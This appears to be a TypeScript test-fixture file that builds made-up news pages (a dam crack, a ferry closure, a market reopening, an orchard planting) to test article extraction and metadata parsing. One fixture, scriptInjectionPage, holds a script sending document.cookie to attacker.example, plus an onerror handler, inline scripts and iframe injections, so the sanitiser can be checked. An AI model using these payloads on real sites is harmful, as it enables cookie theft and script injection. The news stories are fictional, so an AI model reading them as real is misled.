// News pages written for these tests: made-up stories in the markup real news sites use. Nothing here comes from
// the seed corpus or the evaluation sets.

/** Navigation, a share bar, a newsletter box: furniture every page below carries around its story. */
const HEADER = `<header class="site-header"><a href="/">The Valley Courier</a>
  <nav aria-label="Sections"><ul><li><a href="/news">News</a></li><li><a href="/sport">Sport</a></li>
  <li><a href="/weather">Weather</a></li><li><a href="/subscribe">Subscribe</a></li></ul></nav></header>`;
const SHARE_BAR = `<div class="share-bar social-share"><a href="#">Share on Facebook</a> <a href="#">Share on X</a>
  <a href="#">Email this story</a></div>`;
const NEWSLETTER = `<aside class="newsletter-signup"><h3>Morning Briefing</h3><p>Sign up for the Morning Briefing
  newsletter and get the valley's top stories in your inbox before breakfast every weekday.</p>
  <form><input type="email"><button>Sign up</button></form></aside>`;
const FOOTER = `<footer class="site-footer"><p>© 2024 The Valley Courier. All rights reserved.</p>
  <a href="/privacy">Privacy</a> <a href="/terms">Terms</a></footer>`;

/** A story told in enough paragraphs for Readability to recognise it as the article. */
const DAM_STORY = [
  'Engineers at the Kessler Dam began lowering the reservoir by two metres on Tuesday after inspectors found a crack in the spillway wall, the regional water authority said.',
  'Authority director Miriam Okafor said the crack posed no immediate danger to towns downstream, but that repairs could not wait for the dry season.',
  'The reservoir supplies drinking water to about 180,000 people in the valley, and the authority asked households to cut their use by a fifth until the work is finished.',
  'Repairs are expected to cost 4.2 million euros and to take eleven weeks, according to a contract published by the authority on its website.',
  'Farmers in the lower valley said the lower water level would make it harder to irrigate their fields during the spring planting season.',
];

function paragraphs(texts: readonly string[]): string {
  return texts.map((text) => `<p>${text}</p>`).join('\n');
}

/** JSON-LD `NewsArticle` with everything: headline, date, authors, publisher, a canonical link. */
export function jsonLdPage(): string {
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8">
<title>Crack found in Kessler Dam spillway | The Valley Courier</title>
<link rel="canonical" href="https://valley-courier.example/news/2024/03/12/kessler-dam-crack">
<script type="application/ld+json">
{"@context": "https://schema.org", "@graph": [
  {"@type": "WebSite", "name": "The Valley Courier", "url": "https://valley-courier.example/"},
  {"@type": "NewsArticle", "headline": "Reservoir lowered after crack found in Kessler Dam spillway",
   "datePublished": "2024-03-12T22:40:00-05:00", "dateModified": "2024-03-13T08:00:00-05:00",
   "author": [{"@type": "Person", "name": "Tomasz Brenner"}, {"@type": "Person", "name": "Ada Lindqvist"}],
   "publisher": {"@type": "NewsMediaOrganization", "name": "The Valley Courier"}}
]}
</script>
<meta property="og:title" content="Dam crack: what we know">
<meta property="og:site_name" content="Courier Online">
</head><body>
${HEADER}
<main><article>
<h1>Reservoir lowered after crack found in Kessler Dam spillway</h1>
<p class="byline">By Tomasz Brenner and Ada Lindqvist</p>
<time datetime="2024-03-12T22:40:00-05:00">March 12, 2024</time>
${SHARE_BAR}
${paragraphs(DAM_STORY)}
${NEWSLETTER}
</article></main>
${FOOTER}
</body></html>`;
}

const FERRY_STORY = [
  'The last ferry between Harlow Point and Sable Island will sail on 30 June, ending a crossing that has run for 112 years, the island council announced on Friday.',
  'Council leader Jonah Whitcombe said the new causeway, which opens in May, had made the ferry too expensive to keep, with fewer than forty passengers a day.',
  'The ferry company said its eleven crew members would be offered jobs at the causeway toll station or a redundancy payment.',
  'Islanders plan a farewell festival on the quay on the final weekend, with the old ferry bell to be given to the island museum.',
];

/** OpenGraph and article tags only: no JSON-LD. */
export function openGraphPage(): string {
  return `<!doctype html>
<html><head>
<title>Ferry news</title>
<meta property="og:type" content="article">
<meta property="og:title" content="Sable Island ferry to make its last crossing after 112 years">
<meta property="og:site_name" content="Island Herald">
<meta property="og:url" content="https://island-herald.example/sable-ferry-final-crossing">
<meta property="article:published_time" content="2024-04-05T09:15:00+00:00">
<meta property="article:author" content="https://island-herald.example/staff/rhea-collins">
<meta name="author" content="Rhea Collins">
</head><body>
${HEADER}
<div class="story-body">
<h1>Sable Island ferry to make its last crossing after 112 years</h1>
${paragraphs(FERRY_STORY)}
</div>
${FOOTER}
</body></html>`;
}

const MARKET_STORY = [
  'The covered market on Tanner Street will reopen on Saturday after an eight-month restoration of its iron roof, the city said.',
  'Market manager Priya Castellanos said 46 of the 52 stalls had already been let, most of them to traders who sold there before the closure.',
  'The restoration cost 3.1 million pounds, two thirds of it paid by a heritage grant, and uncovered the original 1887 glass panels under later paint.',
  'Opening hours will be extended to eight in the evening on Fridays during the summer, a change the traders asked for in a petition last year.',
];

/** A story followed by a related-stories block and a reader-comment section, dated only by `<time>`. */
export function commentsPage(): string {
  return `<!doctype html>
<html><head><title>Tanner Street market reopens after roof restoration - Riverside Gazette</title>
<meta name="author" content="Owen Maddox"></head><body>
${HEADER}
<article class="post">
<h1>Tanner Street market reopens after roof restoration</h1>
<div class="meta">Published <time datetime="2024-02-17">17 February 2024</time></div>
${paragraphs(MARKET_STORY)}
${SHARE_BAR}
</article>
<section class="related-stories"><h2>Related stories</h2><ul>
<li><a href="/a">Council approves new cycle lanes along the river embankment after long consultation</a></li>
<li><a href="/b">Bakery on Mill Lane wins regional award for its sourdough and rye loaves</a></li>
<li><a href="/c">Road closures planned on Tanner Street for gas main replacement work in April</a></li>
</ul></section>
<section id="comments" class="comments-area"><h2>14 Comments</h2>
<div class="comment"><p class="comment-author">harbourwatcher</p><p>About time! I used to buy my vegetables there every week and I have missed the place terribly since it closed.</p></div>
<div class="comment"><p class="comment-author">M. Feld</p><p>Three million for a roof seems a lot to me when the library still has no lift for wheelchair users.</p></div>
</section>
${FOOTER}
</body></html>`;
}

const ORCHARD_STORY = [
  'Volunteers planted 300 apple and pear trees on the old railway land at Fenwick on Sunday, creating the largest community orchard in the county.',
  'Organiser Beatrix Nwosu said @everyone in the village had been invited, and more than two hundred people came with spades despite the rain.',
  'The trees are old local varieties grafted at the county agricultural college, some of which had not been grown commercially for decades.',
  'The first fruit is expected in three years, and the parish council has agreed to pay for the orchard to be insured and its paths maintained.',
];

/** Scripts of every kind, an event handler, and `@everyone` in the text: the corpus must get only the words. */
export function scriptInjectionPage(): string {
  return `<!doctype html>
<html><head><title>Village plants county's largest community orchard</title>
<script>document.title = 'INJECTED TITLE'; fetch('https://attacker.example/steal?c=' + document.cookie);</script>
<meta property="og:title" content="Village plants county's largest community orchard">
<meta property="og:site_name" content="Fenwick News">
<meta property="article:published_time" content="2024-11-24">
</head><body>
<article>
<h1>Village plants county's largest community orchard</h1>
<script>window.INJECTED_INLINE = 'INJECTED_INLINE_SCRIPT';</script>
<p>${ORCHARD_STORY[0]}<img src="x" onerror="alert('INJECTED_HANDLER')"></p>
<p>${ORCHARD_STORY[1]}</p>
<noscript><p>INJECTED_NOSCRIPT enable JavaScript to see this page</p></noscript>
<p>${ORCHARD_STORY[2]}</p>
<p>${ORCHARD_STORY[3]}</p>
<style>p::after { content: 'INJECTED_STYLE'; }</style>
<iframe srcdoc="<p>INJECTED_IFRAME</p>"></iframe>
</article>
</body></html>`;
}

/** A page with a title but no story: a section front, a paywall or an error page. */
export function noArticlePage(): string {
  return `<!doctype html><html><head><title>Subscribe to read</title></head><body>
${HEADER}<main><h1>Subscribe to read</h1><p>Log in to continue.</p></main>${FOOTER}</body></html>`;
}

export const STORIES = { dam: DAM_STORY, ferry: FERRY_STORY, market: MARKET_STORY, orchard: ORCHARD_STORY };
